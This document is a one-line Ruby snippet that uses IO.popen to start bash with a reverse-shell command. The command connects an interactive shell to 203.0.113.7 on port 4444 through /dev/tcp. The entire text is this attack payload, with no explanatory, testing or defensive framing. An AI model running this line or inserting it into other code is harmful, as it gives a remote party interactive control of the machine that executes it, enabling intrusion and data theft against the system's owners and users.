IO.popen(['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']) { |io| io.read }
